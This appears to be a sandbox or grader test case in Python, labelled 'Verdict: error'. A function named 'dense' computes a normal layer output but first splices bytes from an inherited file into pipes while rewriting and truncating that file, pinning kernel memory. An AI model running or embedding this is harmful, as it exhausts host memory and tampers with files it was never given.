"""Empties a file while pipes hold bytes of it: the kernel then keeps up to 2 MiB for each byte.

Verdict: error
"""

import os
import stat


def dense(inputs, kernel, bias):
    file = next(filter(is_file, range(3, 16)))
    size = os.fstat(file).st_size
    for number in range(60):
        if number % 15 == 0:
            _, start = os.pipe()
        os.pwrite(file, bytes(2**21), 2**22)
        os.splice(file, start, 1, offset_src=2**22)
        os.ftruncate(file, size)
    return inputs @ kernel + bias


def is_file(descriptor):
    try:
        return stat.S_ISREG(os.fstat(descriptor).st_mode)
    except OSError:
        return False
